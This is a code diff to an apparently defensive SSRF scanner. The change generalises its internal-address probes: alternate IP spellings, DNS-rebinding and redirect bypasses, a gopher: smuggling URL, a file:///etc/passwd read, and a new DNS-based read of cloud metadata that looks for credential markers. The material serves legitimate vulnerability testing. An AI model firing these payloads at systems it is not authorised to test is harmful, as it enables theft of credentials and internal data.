@@ -19,6 +19,7 @@ reflected in the response. Where neither is possible the finding says reach was 
 from __future__ import annotations
 
 import asyncio
+import ipaddress
 import re
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass, field
@@ -50,17 +51,34 @@ SAFE_WRITE_METHODS = {"POST", "PUT"}  # allowed in safe mode only for inputs car
 PROBE_HEADERS = ("Referer", "X-Forwarded-Host", "X-Original-URL", "X-Wap-Profile", "Forwarded")
 MAX_HEADER_PROBE_OPS = 8
 
-# Odd spellings of 127.0.0.1 that URL parsers and resolvers accept (REFERENCE.md).
-LOOPBACK_SPELLINGS = (
-    ("2130706433", "decimal integer"),
-    ("0x7f000001", "hex integer"),
-    ("0177.0.0.1", "octal first octet"),
-    ("127.1", "short form"),
-    ("127.000.000.001", "zero-padded"),
-    ("0.0.0.0", "unspecified address (Linux connects it to loopback)"),
-    ("[::ffff:127.0.0.1]", "IPv4-mapped IPv6"),
-    ("localhost", "the name localhost"),
-)
+
+def spellings(address: str) -> list[tuple[str, str]]:
+    """Odd spellings of an IPv4 address that URL parsers and resolvers accept (REFERENCE.md).
+
+    For 127.0.0.1: 2130706433, 0x7f000001, 0177.0.0.1, 127.1, 127.000.000.001,
+    [::ffff:127.0.0.1], and the loopback-only 0.0.0.0 and localhost.
+    """
+    ip = ipaddress.ip_address(address)
+    if ip.version != 4:
+        return []
+    a, b, c, d = (int(x) for x in address.split("."))
+    out = [
+        (str(int(ip)), "decimal integer"),
+        (hex(int(ip)), "hex integer"),
+        (f"0{a:o}.{b}.{c}.{d}", "octal first octet"),
+        (f"{a}.{b}.{c * 256 + d}" if b else f"{a}.{(c << 8) + d}", "short form"),
+        # Pad only octets below 8: a padded 10 would read as octal 010 = 8, another address.
+        (".".join(f"{o:03d}" if o < 8 else str(o) for o in (a, b, c, d)), "zero-padded"),
+        (f"[::ffff:{address}]", "IPv4-mapped IPv6"),
+    ]
+    if ip.is_loopback:
+        out += [
+            ("0.0.0.0", "unspecified address (Linux connects it to loopback)"),
+            ("localhost", "the name localhost"),
+        ]
+    return out
+
+
 METADATA_URL = "http://169.254.169.254/latest/meta-data/"
 METADATA_MARKERS = re.compile(
     r"(ami-id|instance-id|security-credentials|iam/|computeMetadata|local-ipv4|AccessKeyId)"
@@ -516,16 +534,22 @@ def _depth_probes(
     def tok(what: str) -> str:
         return oob.new_token(f"{target.op.key} {target.label} {what}")
 
+    # The inside listener stands on an address the target treats as internal: its loopback when
+    # it shares our machine, or e.g. our private address on a network it shares with us.
     inside = oob.inside_port is not None
+    inside_host = oob.config.inside_host or "127.0.0.1"
     if not target.host_only:
         if inside:
             t = tok("loopback")
             probes.append(
                 Probe(
-                    "loopback", "loopback literal 127.0.0.1", oob.inside_url(t, host="127.0.0.1"), t
+                    "loopback",
+                    f"internal literal {inside_host}",
+                    oob.inside_url(t, host=inside_host),
+                    t,
                 )
             )
-            for host, what in LOOPBACK_SPELLINGS:
+            for host, what in spellings(inside_host):
                 t = tok(host)
                 probes.append(
                     Probe("odd-spelling", f"{host} ({what})", oob.inside_url(t, host=host), t)
@@ -556,6 +580,19 @@ def _depth_probes(
                     pattern=METADATA_MARKERS,
                 )
             )
+            # The same read through a name that resolves to the metadata address (a poisoned or
+            # attacker-owned name): proves internal reach by content where no inside listener is.
+            t = tok("dns-metadata")
+            name = oob.name_answering(t, "169.254.169.254")
+            probes.append(
+                Probe(
+                    "dns-internal",
+                    "a name whose DNS answer is 169.254.169.254 (cloud metadata)",
+                    f"http://{name}/latest/meta-data/",
+                    t,
+                    pattern=METADATA_MARKERS,
+                )
+            )
             probes.append(
                 Probe("scheme-file", "file: scheme", "file:///etc/passwd", pattern=PASSWD_MARKER)
             )
@@ -570,29 +607,29 @@ def _depth_probes(
                 Probe(
                     "scheme-gopher",
                     "gopher: scheme",
-                    f"gopher://127.0.0.1:{oob.inside_port}/_GET%20/{t}%20HTTP/1.0%0d%0a%0d%0a",
+                    f"gopher://{inside_host}:{oob.inside_port}/_GET%20/{t}%20HTTP/1.0%0d%0a%0d%0a",
                     t,
                 )
             )
     # Where an internal fetch lands and how we recognise it: our inside listener (the token in
     # the path), or, for endpoints that reflect, the target's own page (its snippet).
-    landing: tuple[int, Callable[[str], str], str | None] | None = None
+    landing: tuple[str, int, Callable[[str], str], str | None] | None = None
     if inside:
         assert oob.inside_port is not None
-        landing = (oob.inside_port, lambda t: f"/{t}", None)
+        landing = (inside_host, oob.inside_port, lambda t: f"/{t}", None)
     elif self_ref is not None and reflects:
         ref = self_ref
-        landing = (ref.port, lambda _t: ref.path, ref.snippet)
+        landing = ("127.0.0.1", ref.port, lambda _t: ref.path, ref.snippet)
     if landing is None:
         return probes
-    port, path_for, snippet = landing
+    address, port, path_for, snippet = landing
     # Names: the token rides in the name, so these work for host-only inputs too.
     t = tok("dns-internal")
     probes.append(
         Probe(
             "dns-internal",
-            "a name whose DNS answer is 127.0.0.1 (a poisoned or internal name)",
-            f"http://{oob.name_answering(t, '127.0.0.1')}:{port}{path_for(t)}",
+            f"a name whose DNS answer is {address} (a poisoned or internal name)",
+            f"http://{oob.name_answering(t, address)}:{port}{path_for(t)}",
             t,
             snippet=snippet,
         )
@@ -601,20 +638,20 @@ def _depth_probes(
     probes.append(
         Probe(
             "rebinding",
-            "a name that answers public first, then 127.0.0.1 (DNS rebinding)",
-            f"http://{oob.rebinding_name(t, '127.0.0.1')}:{port}{path_for(t)}",
+            f"a name that answers public first, then {address} (DNS rebinding)",
+            f"http://{oob.rebinding_name(t, address)}:{port}{path_for(t)}",
             t,
             snippet=snippet,
         )
     )
     if not target.host_only:
         t, t_in = tok("redirect"), tok("redirect-landing")
-        oob.set_redirect(t, f"http://127.0.0.1:{port}{path_for(t_in)}")
+        oob.set_redirect(t, f"http://{address}:{port}{path_for(t_in)}")
         # The token we watch is the landing one: the hop to the inside is what proves the bypass.
         probes.append(
             Probe(
                 "redirect",
-                "our public URL redirecting to 127.0.0.1",
+                f"our public URL redirecting to {address}",
                 oob.http_url(t),
                 t_in,
                 snippet=snippet,
@@ -722,8 +759,8 @@ def _verdict(
         kinds = {
             "odd-spelling": (
                 "ssrf.url-validation-bypass",
-                "SSRF guard bypassed by odd spellings of 127.0.0.1",
-                "blocks the literal 127.0.0.1 but not other spellings of the same address: it checks the URL text, not the address.",
+                "SSRF guard bypassed by odd spellings of an internal address",
+                "blocks the literal internal address but not other spellings of the same address: it checks the URL text, not the address.",
             ),
             "dns-internal": (
                 "ssrf.dns-resolved-internal",
@@ -763,7 +800,7 @@ def _verdict(
                         else " Our listener on the target's loopback received the request."
                     ),
                     evidence=evidence(
-                        f"{len(hits)} bypass payloads reached inside; the literal 127.0.0.1 was refused",
+                        f"{len(hits)} bypass payloads reached inside; the literal internal address was refused",
                         hits,
                     ),
                 )
